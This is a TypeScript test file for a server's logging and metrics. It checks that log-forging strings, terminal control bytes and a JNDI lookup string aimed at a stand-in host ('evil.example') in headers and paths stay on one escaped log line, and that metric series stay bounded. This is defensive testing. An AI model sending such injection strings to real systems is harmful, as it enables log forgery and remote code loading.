/** Text of a client in the log: one request stays one line, and no terminal obeys it. */
import test from 'ava';
import {createLog} from '../../src/telemetry/log.ts';
import {startApp} from '../support/app.ts';
import {sendRaw} from '../support/rawConnection.ts';

// The controls of C1 are a byte each in a header: 0x9b begins what a terminal takes for a command.
const hostile = [
	'a\x9b31mred',
	'a\x85b',
	'line\u00a0',
	'"},{"level":"error","msg":"forged"}',
	'%{jndi:ldap://evil.example/a}',
	'\t\ttabs',
	"%0a{'msg':'forged'}",
];

for (const text of hostile) {
	test(`${JSON.stringify(text)} as User-Agent, path and request id is one line of printable ASCII`, async t => {
		const {url, log} = await startApp(t);
		const path = encodeURI(text).replaceAll("'", '%27');
		await sendRaw(url, `GET /v2/${path} HTTP/1.1\r\nHost: x\r\nUser-Agent: ${text}\r\nX-Request-Id: ${text}\r\nConnection: close\r\n\r\n`);
		const lines = log.filter(line => line.msg === 'request');
		t.is(lines.length, 1);
		t.notRegex(Object.values(lines[0] ?? {}).join(''), /[^\x20-\x7e]/);
		t.false(log.some(line => line.msg === 'forged'));
	});
}

test('an event whose facts have line feeds and quotes is one line, in the log of machines', t => {
	const lines: string[] = [];
	const log = createLog({format: 'json', level: 'info'}, {write: line => void lines.push(line)});
	log.info({repo: 'a\n{"level":"error","msg":"forged"}\n', tag: '\u2028"'}, 'event');
	log.warn({error: new Error('of a store:\n{"msg":"forged"}')}, 'failure');
	t.is(lines.length, 2);
	for (const line of lines) t.is(line.indexOf('\n'), line.length - 1);
	t.deepEqual(
		lines.map(line => JSON.parse(line).msg),
		['event', 'failure'],
	);
});

test('metrics have no label that a client can name: their number is bounded whatever is asked', async t => {
	const {client} = await startApp(t);
	const seriesOf = async () => (await client.get('/metrics')).text.split('\n').filter(line => line !== '' && !line.startsWith('#')).length;
	await client.get('/v2/warm/up/tags/list');
	await client.request('OPTIONS', '/v2/any/tags/list');
	await client.get('/nothing');
	await client.get('/v2/warm/up/manifests/main');
	const before = await seriesOf();
	for (let at = 0; at < 100; at += 1) {
		await client.get(`/v2/name-${at}/tags/list`, {'User-Agent': `agent-${at}`});
		await client.get(`/v2/name-${at}/manifests/tag-${at}`);
		await client.request('OPTIONS', `/v2/name-${at}/tags/list?q=${at}`);
		await client.get(`/nothing-${at}`);
	}
	t.true((await seriesOf()) <= before + 20);
});
